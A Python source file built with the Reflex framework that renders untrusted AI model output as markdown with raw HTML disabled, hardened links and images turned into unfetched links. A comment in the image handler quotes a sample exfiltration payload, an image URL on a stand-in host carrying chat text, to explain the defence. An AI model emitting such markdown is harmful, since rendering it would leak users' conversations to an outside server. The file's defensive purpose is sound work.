"""Markdown for untrusted model output: no raw HTML, images shown as links (never
fetched), highlighted code with a copy button."""

from __future__ import annotations

import reflex as rx


def _code_block(value: rx.Var, **props) -> rx.Component:
    copy = rx.icon_button(
        rx.icon("copy", size=14),
        variant="soft",
        color_scheme="gray",
        size="1",
        type="button",
        aria_label="Copy code",
        on_click=[rx.set_clipboard(value), rx.toast("Code copied", duration=1200)],
        class_name="code-copy",
    )
    return rx.code_block(
        value,
        can_copy=True,
        copy_button=copy,
        wrap_long_lines=True,
        margin_y="0.75em",
        border_radius="8px",
        font_size="0.85em",
        **props,
    )


def _link(*children, **props) -> rx.Component:
    # react-markdown already strips javascript:/data: URLs; links open in a new tab.
    return rx.link(*children, is_external=True, rel="noopener noreferrer nofollow", **props)


# Inside a markdown component map, `props` holds the element's attributes (src, alt, ...).
_IMAGE_SRC = rx.Var(_js_expr="props.src", _var_type=str)
_IMAGE_ALT = rx.Var(_js_expr="(props.alt || 'image')", _var_type=str)


def _image(*children, **props) -> rx.Component:
    # Never load a model's images: `![](https://evil.example/?q=<chat text>)` would send
    # the conversation to any server just by rendering. Show a link the user can choose.
    return rx.link(
        rx.icon("image", size=14),
        _IMAGE_ALT,
        href=_IMAGE_SRC,
        is_external=True,
        rel="noopener noreferrer nofollow",
        class_name="md-image-link",
        title="Image (not loaded)",
    )


# What the chat's markdown renders specially: code blocks, links, images (as links).
SAFE_COMPONENT_MAP = {"pre": _code_block, "a": _link, "img": _image}


def safe_markdown(text: rx.Var | str, **props) -> rx.Component:
    """Render `text` as markdown with raw HTML OFF: tags show as text and never run."""
    return rx.markdown(
        text,
        use_raw=False,
        use_katex=False,
        use_math=False,
        component_map=SAFE_COMPONENT_MAP,
        class_name="chat-markdown",
        **props,
    )


@rx.memo
def finished_markdown(text: rx.Var[str]) -> rx.Component:
    """`safe_markdown` as a React.memo component for finished messages: while its text
    stays the same it is not parsed again when something else in the chat changes (a run
    starting or ending, a message joining the list), which in a long thread would parse
    every message on every change."""
    return safe_markdown(text)
